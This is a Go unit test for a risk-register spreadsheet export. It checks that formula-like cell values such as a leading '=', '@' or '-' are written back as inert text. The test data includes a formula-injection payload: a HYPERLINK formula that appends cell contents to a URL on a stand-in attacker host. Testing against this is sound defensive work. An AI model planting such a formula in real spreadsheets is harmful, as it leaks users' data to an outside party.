package riskxlsx

import (
	"bytes"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/nhs-redline/redline/backend/risk"
	"github.com/nhs-redline/redline/backend/store"
)

func TestWrite_ReadsBackWithFormulaTextInert(t *testing.T) {
	bs := risk.DefaultBands
	cur := &store.RiskScore{Kind: "current", Consequence: 4, Likelihood: 3, Rating: 12, Band: "High", BandSet: bs.JSON()}
	evil := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	b := Book{Bands: bs, Made: time.Date(2025, 3, 14, 10, 0, 0, 0, time.UTC), By: "lsms",
		Risks: []store.Risk{{ID: 1, Ref: "RR-0001", RiskFields: store.RiskFields{Title: evil, Cause: "@SUM(1+1)", Owner: "Head of Nursing",
			ReviewOn: "2025-06-14", Status: "open"}, Current: cur}},
		History: []store.RiskScore{{RiskID: 1, Kind: "current", Consequence: 4, Likelihood: 3, Rating: 12, Band: "High", BandSet: bs.JSON(),
			Reason: "-second incident this quarter", CaseRef: "RL-2025-0007"}},
		Links: []store.RiskLink{{RiskID: 1, Kind: "hotspot", Label: "hotspot:42"}},
	}
	data, err := Write(b)
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	check := func(sheet, cell, want string) {
		t.Helper()
		got, _ := f.GetCellValue(sheet, cell)
		if got != want {
			t.Errorf("%s!%s = %q, want %q", sheet, cell, got, want)
		}
		if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
			t.Errorf("%s!%s holds a formula %q", sheet, cell, formula)
		}
		typ, _ := f.GetCellType(sheet, cell)
		if want != "" && typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
			t.Errorf("%s!%s type %v, want a string", sheet, cell, typ)
		}
	}
	check("Register", "A2", "RR-0001")
	check("Register", "B2", "'"+evil)
	check("Register", "D2", "'@SUM(1+1)")
	check("Register", "K2", "14/06/2025")
	check("Register", "T2", "High")
	if v, _ := f.GetCellValue("Register", "S2"); v != "12" {
		t.Errorf("current rating %q", v)
	}
	check("History", "I2", "'-second incident this quarter")
	check("History", "J2", "RL-2025-0007")
	check("History", "K2", "Low 1-3; Moderate 4-6; High 8-12; Extreme 15-25")
	check("Links", "C2", "hotspot:42")
	check("Bands", "A4", "High")
}
